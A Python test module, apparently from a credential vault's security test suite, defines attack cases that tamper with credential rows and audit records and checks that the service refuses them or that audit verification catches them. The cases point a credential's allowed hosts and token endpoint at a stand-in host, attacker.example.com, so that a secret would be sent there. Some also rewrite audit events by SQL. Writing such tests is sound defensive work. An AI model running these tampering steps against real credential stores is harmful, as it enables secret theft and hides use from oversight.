"""Attacks on what decides where a credential is used, and on the record of its uses."""

from __future__ import annotations

from typing import TYPE_CHECKING

from attacks.acts import in_order, sql
from attacks.attack import Attack, Where
from attacks.tokens import mint

from strongroom.v1.credential_pb2 import PLACEMENT_LOCATION_HEADER, Credential
from strongroom.v1.use_service_pb2 import AuthorizeHttpRequestRequest, ForwardHttpRequestRequest, HttpRequestHead
from strongroom.v1.use_service_pb2_grpc import UseServiceStub

if TYPE_CHECKING:
    from attacks.acts import Act
    from attacks.world import Attacked

_ATTACKERS = "attacker.example.com"


def forward(name: str, host: str = _ATTACKERS) -> Act:
    """Have a request sent with a credential."""

    async def act(attacked: Attacked) -> object:
        head = HttpRequestHead(id=attacked.world.ids[name], method="GET", url=f"https://{host}/")
        stub = UseServiceStub(attacked.service.channel())
        return await stub.ForwardHttpRequest(ForwardHttpRequestRequest(head=head), metadata=attacked.metadata)

    return act


def authorize(name: str, host: str) -> Act:
    """Get what to add to a request."""

    async def act(attacked: Attacked) -> object:
        request = AuthorizeHttpRequestRequest(id=attacked.world.ids[name], method="GET", url=f"https://{host}/")
        return await UseServiceStub(attacked.service.channel()).AuthorizeHttpRequest(
            request, metadata=attacked.metadata
        )

    return act


def use_settings(name: str, settings: Credential.UseSettings) -> Act:
    return sql(
        f"update credentials set use_settings = '\\x{settings.SerializeToString().hex()}' where id = '{{{name}}}'"
    )


_PLACEMENT = Credential.SecretPlacement(location=PLACEMENT_LOCATION_HEADER, name="X-Shown-In-Responses")

USES = (
    Attack(
        "Widen a credential's allowed hosts in its row, and have a request sent to another host",
        sql(f"update credentials set allowed_hosts = '{{{{{_ATTACKERS}}}}}' where id = '{{plain}}'"),
        Where.REFUSED,
        "SEAL_BROKEN",
        forward("plain"),
    ),
    Attack(
        "Change the token endpoint in a credential's row, so that the client's secret is sent there",
        use_settings("granted", Credential.UseSettings(managed=True, token_url=f"https://{_ATTACKERS}/token")),
        Where.REFUSED,
        "SEAL_BROKEN",
        mint("granted"),
    ),
    Attack(
        "Change the header in which a secret is sent in the credential's row",
        use_settings("plain", Credential.UseSettings(placement=_PLACEMENT)),
        Where.REFUSED,
        "SEAL_BROKEN",
        authorize("plain", "a.example.com"),
    ),
    Attack(
        "Change the host of a use in its event",
        in_order(
            authorize("plain", "a.example.com"),
            sql("update audit_events set use = '\\x' where action = 'AuthorizeHttpRequest'"),
        ),
        Where.VERIFY,
        "was changed or added",
        window="until `audit verify` runs",
    ),
)
